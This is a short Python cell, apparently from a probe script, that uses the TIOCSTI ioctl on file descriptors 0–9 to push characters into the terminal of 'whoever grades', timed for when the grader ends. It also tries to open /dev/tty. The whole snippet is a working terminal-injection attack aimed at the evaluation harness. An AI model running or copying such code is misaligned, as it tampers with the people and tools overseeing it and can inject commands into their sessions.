# Pushes characters into the terminal of whoever grades, to be run when the grader ends.
# %%
import fcntl
import os
import termios

for number in range(0, 10):
    attempt(f"terminal {number}", lambda number=number: fcntl.ioctl(
        number, termios.TIOCSTI, b"\n") == 0 and "pushed")
attempt("control", lambda: os.open("/dev/tty", os.O_RDWR))
